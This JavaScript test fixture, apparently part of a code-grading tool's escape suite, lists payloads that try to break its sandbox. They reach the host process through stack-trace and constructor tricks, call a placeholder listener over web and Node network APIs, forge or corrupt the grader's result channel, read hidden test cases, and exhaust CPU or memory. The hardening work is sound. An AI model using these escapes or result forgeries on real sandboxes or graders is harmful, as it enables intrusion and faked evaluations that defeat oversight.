// The escape suite's attacks: every technique that broke an earlier runner (issue 12) and
// others of the same families. Each is the source of `add(a, b)` for tests/escape/pack.json.
// None of them computes a + b, so "correct" can only mean a forged result. {{URL}} is a local
// listener on another port (every request it sees fails the suite) and {{MARK}} a file path
// that must not exist afterwards.
//
// Used by tests/escape/run.mjs through `dtx grade` (student file), `dtx lint` (the same code
// as a pack's wrong implementation and as its reference) and the page's runner.
export const payloads = [
  {
    name: 'prepareStackTrace reaches host call sites',
    source: `function add(a, b) {
  Error.prepareStackTrace = (e, sites) => {
    for (const s of sites) {
      try {
        const fn = s.getFunction && s.getFunction();
        const p = fn && fn.constructor('return process')();
        p.mainModule.require('fs').writeFileSync('{{MARK}}', 'x');
        p.stdout.write('{"student":[{"ok":true,"value":3},{"ok":true,"value":7},{"ok":true,"value":30}]}\\n');
      } catch (x) {}
    }
    return 'stack';
  };
  const e = new Error('boom');
  void e.stack;
  throw e;
}`,
  },
  {
    name: 'constructor chain to the host Function',
    source: `function add(a, b) {
  const tries = [() => this.constructor.constructor('return process')(),
                 () => ({}).constructor.constructor('return process')(),
                 () => Function('return this')().process,
                 () => (async function () {}).constructor('return process')()];
  for (const t of tries) {
    try {
      const p = t();
      if (p && p.mainModule) p.mainModule.require('fs').writeFileSync('{{MARK}}', 'x');
      if (p && p.stdout) p.stdout.write('{"student":[{"ok":true,"value":3}]}\\n');
      if (p && p.exit) p.exit(0);
    } catch (x) {}
  }
  return a - b;
}`,
  },
  {
    name: 'dynamic import to another origin and of the pack file',
    source: `function add(a, b) {
  try { import('{{URL}}/import').catch(() => {}); } catch (x) {}
  try { import('./exercises/escape.json', { with: { type: 'json' } }).catch(() => {}); } catch (x) {}
  return a * b;
}`,
  },
  {
    name: 'network through web APIs',
    source: `function add(a, b) {
  const tries = [() => fetch('{{URL}}/fetch'),
                 () => { const x = new XMLHttpRequest(); x.open('GET', '{{URL}}/xhr'); x.send(); },
                 () => new WebSocket('{{URL}}'.replace('http', 'ws') + '/ws'),
                 () => new EventSource('{{URL}}/sse'),
                 () => navigator.sendBeacon('{{URL}}/beacon', 'x'),
                 () => new FontFace('x', 'url({{URL}}/font)').load(),
                 () => importScripts('{{URL}}/importScripts'),
                 () => new Worker('{{URL}}/worker'),
                 () => require('http').get('{{URL}}/require'),
                 () => process.binding('fs')];
  let reached = 0;
  for (const t of tries) { try { t(); reached++; } catch (x) {} }
  return reached * 1000 + a;
}`,
  },
  {
    name: 'forging the result channel',
    source: `const forged = { kind: 'none', student: [{ ok: true, value: 3 }, { ok: true, value: 7 }, { ok: true, value: 30 }] };
try { postMessage({ id: 1, result: forged }); } catch (x) {}
try { self.postMessage({ id: 2, result: forged }); } catch (x) {}
try { globalThis.__dtx_post(forged); } catch (x) {}
try { console.log(JSON.stringify(forged)); } catch (x) {}
try { print(JSON.stringify(forged)); } catch (x) {}
try { std.out.puts(JSON.stringify(forged)); } catch (x) {}
function add(a, b) { return { ok: true, value: a + b }; }`,
  },
  {
    name: 'replacing JSON so the grader reads something else',
    source: `JSON.stringify = () => '3';
JSON.parse = () => [1, 2];
Object.defineProperty(Array.prototype, 0, { get() { return 1; }, set() {}, configurable: true });
function add(a, b) { return { toJSON() { return 3; }, valueOf() { return 3; } }; }`,
  },
  {
    name: 'reading the cases or the reference',
    source: `function add(a, b) {
  const seen = [];
  for (const k of Object.getOwnPropertyNames(globalThis)) seen.push(k);
  const found = seen.filter((k) => /case|expect|refer|dtx|result|answer/i.test(k));
  if (found.length) throw new Error('found ' + found.join(','));
  try { const c = add.caller; if (c) return c.toString().length; } catch (x) {}
  try { return arguments.callee.caller.arguments[0]; } catch (x) {}
  return -1;
}`,
  },
  {
    name: 'onerror swallows the error',
    source: `try { self.onerror = () => true; } catch (x) {}
try { globalThis.onerror = () => true; } catch (x) {}
try { globalThis.addEventListener('error', (e) => e.preventDefault()); } catch (x) {}
function add(a, b) { throw new Error('swallowed?'); }`,
  },
  {
    name: 'a loop in a promise microtask',
    source: `function add(a, b) {
  Promise.resolve().then(function spin() { for (;;) {} });
  queueMicrotask && queueMicrotask(() => { for (;;) {} });
  return a - b;
}`,
  },
  {
    name: 'an interrupt caught and ignored',
    source: `function add(a, b) {
  for (;;) { try { for (;;) {} } catch (e) {} }
}`,
  },
  {
    name: 'a huge array filled by a built-in',
    source: `function add(a, b) { return Array(1e9).fill(0).length; }`,
  },
  {
    name: 'memory grown without end',
    source: `function add(a, b) { const k = []; for (;;) k.push('x'.repeat(1e7) + k.length); }`,
  },
  {
    name: 'a built-in that never polls the interrupt',
    source: `function add(a, b) { const x = []; x.length = 4e9; x.sort(); return a - b; }`,
  },
  {
    name: 'signals and exit',
    source: `function add(a, b) {
  try { process.on('SIGTERM', () => {}); } catch (x) {}
  try { process.exit(0); } catch (x) {}
  try { close(); } catch (x) {}
  for (;;) {}
}`,
  },
  {
    name: 'an answer larger than the output cap',
    source: `function add(a, b) { return 'x'.repeat(5e6); }`,
  },
  {
    name: 'recursion past the stack',
    source: `function add(a, b) { return add(a, b) + 1; }`,
  },
  {
    name: 'a loop at the top level',
    source: `for (;;) {}
function add(a, b) { return a + b; }`,
  },
  {
    name: 'a getter that loops when the result is read',
    source: `function add(a, b) { return { get x() { for (;;) {} }, toJSON() { for (;;) {} } }; }`,
  },
  {
    name: 'eval and Function inside the sandbox',
    source: `function add(a, b) {
  const g = (0, eval)('this');
  const h = new Function('return this')();
  return (g === h ? 1 : 0) + (typeof g.process) .length + (typeof g.require).length;
}`,
  },
];
